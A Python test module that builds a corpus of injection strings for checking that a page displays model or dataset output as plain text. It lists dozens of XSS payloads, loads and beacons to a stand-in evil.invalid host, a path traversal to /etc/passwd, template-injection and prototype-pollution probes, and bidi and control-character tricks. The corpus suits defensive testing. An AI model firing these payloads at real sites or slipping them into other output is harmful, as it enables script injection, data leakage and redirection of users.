"""Strings that try to become something else than text: a corpus for every field that a
model or a data set can fill.

Each one that would run calls ``window.__pwned.push``, or asks for an address at
``evil.invalid``; a page that shows them all and did neither has shown text.
"""

import base64

RUN = "window.__pwned.push(1)"

MARKUP = """\
<script>RUN</script>
</script><script>RUN</script>
<!--</script><script>RUN</script>-->
<script src=https://evil.invalid/x.js></script>
<img src=x onerror=RUN>
"><img src=x onerror="RUN">
'><img src=x onerror='RUN'>
<svg onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<math><mtext></p><img src=x onerror=RUN>
<details open ontoggle=RUN>
<video><source onerror=RUN></video>
<input autofocus onfocus=RUN>
<iframe srcdoc='<script>parent.RUN</script>'></iframe>
<iframe src=https://evil.invalid/></iframe>
<object data=https://evil.invalid/x></object>
<link rel=stylesheet href=https://evil.invalid/x.css>
<base href=https://evil.invalid/>
<meta http-equiv=refresh content='0;url=https://evil.invalid/'>
<form action=https://evil.invalid/><button>go</button></form>
<a href=javascript:RUN>click</a>
<style>*{background:url(https://evil.invalid/x)}</style>
<template><script>RUN</script></template>
<noscript><p title='</noscript><img src=x onerror=RUN>'>
<textarea></textarea><img src=x onerror=RUN>
<title></title><script>RUN</script>
<img/src/onerror=RUN>
<x onclick=RUN tabindex=1 id=x onfocus=RUN>#x
<xss style=animation-name:x onanimationstart=RUN>
<select><noembed></select><script>RUN</script>
<svg><style><img src='</style><img src=x onerror=RUN>'></svg>
<svg><a xlink:href=javascript:RUN><text y=9>click</text></a></svg>
<svg><use href='data:image/svg+xml,<svg id=x onload=RUN />#x'/></svg>
<img srcset='https://evil.invalid/x 2x' src=x>
<video poster=https://evil.invalid/x.png autoplay>
<a href=x ping=https://evil.invalid/ download>x</a>
<img name=mmeval id=__pwned><form id=document><input name=body></form>
<plaintext>
<!--
]]>
<![CDATA[<b>x</b>]]>
javascript:RUN
JaVaScRiPt:RUN
vbscript:RUN
data:text/html,<script>parent.RUN</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
https://evil.invalid/pixel.png
//evil.invalid/pixel.png
\\\\evil.invalid\\share\\x.png
file://evil.invalid/share/x.png
../../../../../../etc/passwd
blob:null/x
/\\evil.invalid/x.png
' onerror='RUN
" onerror="RUN
` onerror=`RUN
');RUN;('
");RUN;("
\\");RUN;//
${RUN}
`${RUN}`
*/RUN/*
{{7*7}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
<%= 7*7 %>
__proto__
__proto__[x]
then
constructor
hasOwnProperty
# heading **bold** [link](javascript:RUN) ![x](https://evil.invalid/x.png)
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;&#x3c;img src=x&#x3e;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
#trial=x/0/0&text=y
%
%E0%A4%A
خوش آمدید שלום
""".replace("RUN", RUN)
"""Elements and attributes, addresses, what ends a string or is evaluated, and other
writings of these; one a line."""

CHARACTERS = (
    f"java\tscript:{RUN}",
    "data:text/html;base64,"
    f"{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}",
    f"\x01javascript:{RUN}",
    f"\u2028{RUN}\u2029",
    f"\n{RUN}\n",
    f"\u0085{RUN}\u000b{RUN}",
    f"//# sourceMappingURL=https://evil.invalid/x.map\n{RUN}",
    "\u202egnp.exe",
    "left\u2066\u2067isolated\u2069right",
    "zero\u200bwidth\u2060joined\ufeff",
    "\ufeffmark",
    "nul\0inside",
    "bell\x07 escape\x1b[31mred\x1b[0m back\x08\x08",
    "lone \ud800 and \udfff surrogates",
    "tag\U000e0041\U000e0042s",
    "a" * 5_000,
    "e" + "\u0301" * 300,
    "\u02bascript\uff1e\uff1cscript\uff1e",
    "",
    " ",
    "\r\n\r\n",
)
"""What bends, hides or breaks writing."""

INJECTIONS = (*MARKUP.splitlines(), *CHARACTERS)
